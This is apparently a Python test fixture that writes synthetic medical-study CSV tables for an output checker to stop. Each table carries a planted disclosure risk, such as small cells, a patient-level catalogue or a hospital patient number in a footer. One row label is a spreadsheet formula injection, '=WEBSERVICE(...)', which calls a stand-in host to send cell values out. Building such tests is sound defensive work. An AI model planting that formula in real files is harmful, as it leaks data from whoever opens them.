"""CSV tables that must be stopped."""

from tests.airlock.outputs.case import Shelf

from .kit import csv, t1


def write(shelf: Shelf) -> None:
    _comorbidities(shelf)
    _monthly(shelf)
    _infections(shelf)
    _profiles(shelf)
    _cost(shelf)
    _formula(shelf)
    _onset(shelf)
    _footer(shelf)


def _comorbidities(shelf: Shelf) -> None:
    path = shelf.unsafe(
        "stea/tab1_steatose.csv", "small cell", "Hémochromatose, groupe F3-F4: 6",
        "Tableau 1 de l'étude sur la stéatose métabolique : caractéristiques selon le stade de fibrose",
        "1 136 adultes suivis en hépatologie pour une stéatose métabolique, 2016-2023",
    )  # fmt: skip
    lines = [
        ("Femmes", 341, 187, "0,048"),
        ("Âge, années, médiane [Q1-Q3]", "52 [43-61]", "59 [51-67]", "<0,001"),
        ("IMC, kg/m², moyenne (ET)", "30,8 (5,1)", "33,4 (5,9)", "<0,001"),
        ("Diabète de type 2", 214, 251, "<0,001"),
        ("HTA traitée", 305, 243, "<0,001"),
        ("Dyslipidémie", 288, 201, "0,012"),
        ("Apnées du sommeil appareillées", 77, 84, "<0,001"),
        ("Hypothyroïdie", 41, 33, "0,19"),
        ("Hémochromatose hétérozygote", 19, 6, "0,21"),
        ("Maladie cœliaque", 14, 12, "0,83"),
        ("Statine", 251, 178, "0,031"),
        ("Agoniste du GLP-1", 62, 71, "<0,001"),
        ("ALAT, UI/L, médiane [Q1-Q3]", "41 [29-60]", "56 [38-83]", "<0,001"),
        ("Plaquettes, G/L, moyenne (ET)", "248 (61)", "192 (67)", "<0,001"),
        ("FIB-4, médiane [Q1-Q3]", "1,0 [0,7-1,3]", "2,4 [1,8-3,6]", "<0,001"),
    ]
    csv(path, t1(["F0-F2", "F3-F4", "p"], [702, 434], lines, fr=True, fault=True), ";")


def _monthly(shelf: Shelf) -> None:
    path = shelf.unsafe(
        "stroke/door_to_needle_by_site.csv", "a masked cell that totals give back", "site D, 2021, from both totals",
        "Thrombolysed strokes by site and year; cells under ten were masked",
        "Adults with ischaemic stroke treated by thrombolysis in a five-site network, 2018-2023",
    )  # fmt: skip
    sites = {
        "A (comprehensive)": [142, 151, 133, 148, 160, 171],
        "B": [61, 58, 49, 66, 70, 64],
        "C": [38, 41, 33, 29, 44, 47],
        "D": [22, 19, 14, 7, 18, 21],
        "E": [17, 23, 15, 20, 26, 24],
    }
    rows: list[list[object]] = [["site", *range(2018, 2024), "total"]]
    rows += [[k, *("<10" if v < 10 else v for v in vs), sum(vs)] for k, vs in sites.items()]
    rows.append(
        ["all sites", *(sum(vs[i] for vs in sites.values()) for i in range(6)), sum(map(sum, sites.values()))]
    )
    csv(path, rows)


def _infections(shelf: Shelf) -> None:
    path = shelf.unsafe(
        "iso/infections_site_operatoire.csv", "a share that tells a small count", "prothèse d'épaule: 1,2 % de 331 = 4",
        "Taux d'infection du site opératoire par type d'intervention",
        "6 403 patients opérés d'une intervention prioritaire, réseau de surveillance 2022",
    )  # fmt: skip
    csv(
        path,
        [
            ["intervention", "patients", "duree_mediane_min", "score_NNIS_0_pct", "taux_ISO_pct"],
            ["cholécystectomie", 1204, 71, "68,2", "1,3"],
            ["colectomie", 688, 164, "41,0", "7,8"],
            ["césarienne", 1530, 42, "80,1", "1,6"],
            ["prothèse de hanche", 942, 78, "62,4", "1,4"],
            ["prothèse de genou", 861, 82, "64,5", "1,5"],
            ["prothèse d'épaule", 331, 95, "66,8", "1,2"],
            ["mastectomie", 517, 88, "71,0", "3,5"],
            ["hernie inguinale", 330, 48, "79,7", "3,9"],
        ],
        ";",
    )


def _profiles(shelf: Shelf) -> None:
    path = shelf.unsafe(
        "bari/profile_catalogue.csv", "rows of persons called profiles", "every row is one operated patient",
        "Catalogue of the profiles met in the bariatric surgery cohort, for the web calculator",
        "212 adults operated on for sleeve gastrectomy or bypass",
    )  # fmt: skip
    draw = shelf.random("profiles")
    rows: list[list[object]] = [
        ["profile", "sex", "age", "bmi_before", "bmi_12m", "hba1c_before", "procedure", "los_days", "complication"]
    ]
    for number in range(1, 213):
        bmi = round(draw.gauss(43, 5), 1)
        kind = draw.choice(["sleeve", "sleeve", "bypass"])
        rows.append([
            f"BP-{number:03d}", draw.choice("FFFM"), draw.randint(21, 67), bmi, round(bmi * draw.uniform(0.62, 0.83), 1),
            round(draw.gauss(6.3, 0.9), 1), kind, draw.choice([2, 2, 3, 3, 4, 6]), draw.choice(["none"] * 9 + ["leak"]),
        ])  # fmt: skip
    csv(path, rows)


def _cost(shelf: Shelf) -> None:
    path = shelf.unsafe(
        "medeco/couts_ghm.csv", "a dominant contributor", "05M09: le premier séjour fait 91,4 % de la somme",
        "Coût des molécules onéreuses par groupe homogène de malades, avec l'indice de concentration",
        "3 018 séjours de 2 674 patients, comptabilité analytique 2022",
    )  # fmt: skip
    csv(
        path,
        [
            ["racine_GHM", "sejours", "patients", "cout_total_EUR", "cout_median_EUR", "part_1er_contributeur_pct"],
            ["04M05", 512, 466, 318204, 402, "2,1"],
            ["05M09", 389, 341, 1288950, 210, "91,4"],
            ["06K02", 604, 590, 92715, 121, "1,7"],
            ["07M06", 288, 203, 447132, 988, "3,9"],
            ["17M06", 846, 701, 3904411, 3215, "1,2"],
            ["23M20", 379, 373, 81290, 166, "4,4"],
        ],
        ";",
    )


def _formula(shelf: Shelf) -> None:
    path = shelf.unsafe(
        "asthma/exacerbations_by_step.csv", "formula injection", "the label of GINA step 3 calls a web address",
        "Exacerbations by treatment step, for the supplementary table",
        "2,415 adults with asthma followed in pulmonary clinics",
    )  # fmt: skip
    csv(
        path,
        [
            ["step", "patients", "with_exacerbation", "share_pct", "rate_per_person_year", "ci95"],
            ["GINA step 1", 402, 31, 7.7, 0.09, "0.06 to 0.13"],
            ["GINA step 2", 655, 88, 13.4, 0.17, "0.14 to 0.21"],
            ['=WEBSERVICE("http://collect.example/s?v="&B4&C4)', 711, 162, 22.8, 0.31, "0.27 to 0.36"],
            ["GINA step 4", 458, 149, 32.5, 0.48, "0.42 to 0.55"],
            ["GINA step 5", 189, 94, 49.7, 0.92, "0.79 to 1.06"],
        ],
    )


def _onset(shelf: Shelf) -> None:
    path = shelf.unsafe(
        "ici/irae_summary.csv", "dates of single events", "column last_event: the day one patient fell ill",
        "Immune-related adverse events under checkpoint inhibitors, by organ",
        "1,377 patients treated for melanoma, lung or kidney cancer",
    )  # fmt: skip
    csv(
        path,
        [
            ["organ", "patients", "share_pct", "grade_3_4", "median_weeks_to_onset", "last_event"],
            ["skin", 311, 22.6, 38, 6.1, "2023-11-19"],
            ["colon", 148, 10.7, 52, 8.4, "2023-12-02"],
            ["liver", 96, 7.0, 41, 9.9, "2023-10-27"],
            ["thyroid", 203, 14.7, 12, 7.7, "2023-12-14"],
            ["pituitary", 44, 3.2, 17, 11.8, "2023-08-30"],
            ["lung", 71, 5.2, 29, 12.3, "2023-09-11"],
            ["joints", 88, 6.4, 14, 13.0, "2023-11-05"],
        ],
    )


def _footer(shelf: Shelf) -> None:
    path = shelf.unsafe(
        "dialyse/abord_vasculaire.csv", "a hospital number in a remark", "last line: IPP 8017350264",
        "Abord vasculaire à l'initiation de l'hémodialyse, par année",
        "1 082 patients incidents en hémodialyse, 2018-2022",
    )  # fmt: skip
    csv(
        path,
        [
            [
                "annee",
                "patients",
                "fistule",
                "catheter",
                "fistule_pct",
                "infections_catheter",
                "delai_median_fistule_j",
            ],
            [2018, 204, 98, 106, "48,0", 21, 62],
            [2019, 221, 113, 108, "51,1", 19, 58],
            [2020, 198, 91, 107, "46,0", 24, 71],
            [2021, 227, 120, 107, "52,9", 18, 60],
            [2022, 232, 131, 101, "56,5", 16, 55],
        ],
        ";",
        after="# fistules comptées si fonctionnelles à J90 ; doublon corrigé (8017350264 compté en 2020 et 2021)",
    )
